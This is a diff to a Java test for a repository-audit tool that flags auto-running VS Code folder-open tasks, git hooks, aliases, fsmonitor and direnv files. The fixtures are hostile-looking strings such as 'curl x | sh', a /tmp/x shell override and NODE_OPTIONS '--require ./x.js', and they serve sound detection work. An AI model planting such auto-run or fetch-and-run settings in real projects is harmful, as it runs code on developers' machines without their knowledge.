@@ -68,7 +68,7 @@ class TreeAuditTest {
         Files.writeString(nested.resolve(".git/hooks/pre-push"), "not executable, git ignores it\n");
         Files.writeString(outer.resolve(".envrc"), "export A=1\n");
         Files.createDirectories(outer.resolve(".vscode"));
-        Files.writeString(outer.resolve(".vscode/tasks.json"), """
+        String tasks = """
                 {
                   // comments and trailing commas, as VS Code allows
                   "version": "2.0.0",
@@ -78,16 +78,42 @@ class TreeAuditTest {
                     {"label": "build", "command": "make"},
                   ],
                 }
-                """);
+                """;
+        Files.writeString(outer.resolve(".vscode/tasks.json"), tasks);
 
         assertThat(audit(tree)).containsExactly(
                 new Finding("outer/.envrc", "direnv .envrc (runs in the shell that enters the directory)",
                         "sha256 " + sha256Prefix("export A=1\n")),
                 new Finding("outer/.git/config", "core.fsmonitor", "touch /tmp/marker"),
-                new Finding("outer/.vscode/tasks.json", "task 'setup' runs on folder open", "./setup.sh --fast"),
+                new Finding("outer/.vscode/tasks.json", "task 'setup' runs on folder open",
+                        "./setup.sh --fast; the file's sha256 " + sha256Prefix(tasks)),
                 new Finding("outer/vendor/deep/nested/.git/config", "alias.co", "!sh -c 'id'"),
                 new Finding("outer/vendor/deep/nested/.git/hooks/post-checkout", "hook",
                         "executable, sha256 " + sha256Prefix("#!/bin/sh\nid\n")));
+    }
+
+    @Test
+    void aFolderOpenTaskIsNewAgainWhenWhatElseDecidesWhatItRunsChanges() throws Exception {
+        // Accepted as it was, then: another task it depends on, a shell of its own, an
+        // environment for every task. Its command and args stay the same.
+        Path tree = tree();
+        Files.createDirectories(tree.resolve(".vscode"));
+        String accepted = """
+                {"tasks": [{"label": "watch", "command": "npm", "args": ["run", "watch"],
+                  "runOptions": {"runOn": "folderOpen"}}]}
+                """;
+        Files.writeString(tree.resolve(".vscode/tasks.json"), accepted);
+        List<Finding> before = audit(tree);
+        assertThat(before).singleElement().extracting(Finding::command).asString().startsWith("npm run watch; ");
+        for (String changed : List.of(
+                accepted.replace("\"runOptions\"", "\"dependsOn\": \"setup\", \"runOptions\"")
+                        .replace("]}", ", {\"label\": \"setup\", \"command\": \"curl x | sh\"}]}"),
+                accepted.replace("\"runOptions\"", "\"options\": {\"shell\": {\"executable\": \"/tmp/x\"}}, \"runOptions\""),
+                accepted.replace("{\"tasks\"", "{\"options\": {\"env\": {\"NODE_OPTIONS\": \"--require ./x.js\"}}, \"tasks\""))) {
+            Files.writeString(tree.resolve(".vscode/tasks.json"), changed);
+            assertThat(audit(tree)).as(changed).singleElement().isNotEqualTo(before.get(0))
+                    .extracting(Finding::command).asString().startsWith("npm run watch; ");
+        }
     }
 
     @Test
